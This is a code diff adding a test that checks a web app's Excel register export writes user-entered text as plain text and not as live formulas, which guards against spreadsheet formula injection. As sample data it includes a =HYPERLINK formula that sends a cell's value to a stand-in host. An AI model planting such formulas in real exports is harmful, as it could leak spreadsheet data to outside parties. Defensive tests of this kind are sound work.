@@ -37,6 +37,21 @@ def test_register_excel_has_vietnamese_headers_and_real_numbers(client, make_use
     assert rows[0][2].year == 2023
 
 
+def test_register_excel_writes_user_text_as_text(client, make_user, make_activity):
+    """Probe: a record titled =HYPERLINK(...) came out as a live formula (OWASP CSV injection)."""
+    evil = '=HYPERLINK("http://x/?"&A1,"click")'
+    make_activity("class", 2023, title=evil, fund_source="@SUM(1+1)")
+    client.force_login(make_user(Role.VIEWER))
+    ws = load_workbook(io.BytesIO(client.get("/registers/class/?format=xlsx").content)).active
+    headers = [c.value for c in ws[1]]
+    title = ws.cell(row=2, column=headers.index("Tên hoạt động") + 1)
+    assert title.value == evil and title.data_type == "s" and title.quotePrefix
+    notes = ws.cell(row=2, column=headers.index("Nguồn kinh phí") + 1)
+    assert notes.value == "@SUM(1+1)" and notes.data_type == "s"
+    spent = ws.cell(row=2, column=headers.index("Kinh phí đã chi (đ)") + 1)
+    assert spent.value == 9_000_000 and spent.data_type == "n"  # numbers stay numbers
+
+
 def test_dashboard_excel(client, settings, data):
     settings.NSCL_PUBLIC_PROGRESS = True
     ws = load_workbook(io.BytesIO(client.get("/progress/export.xlsx?phase=2021-2025&year=2025").content)).active
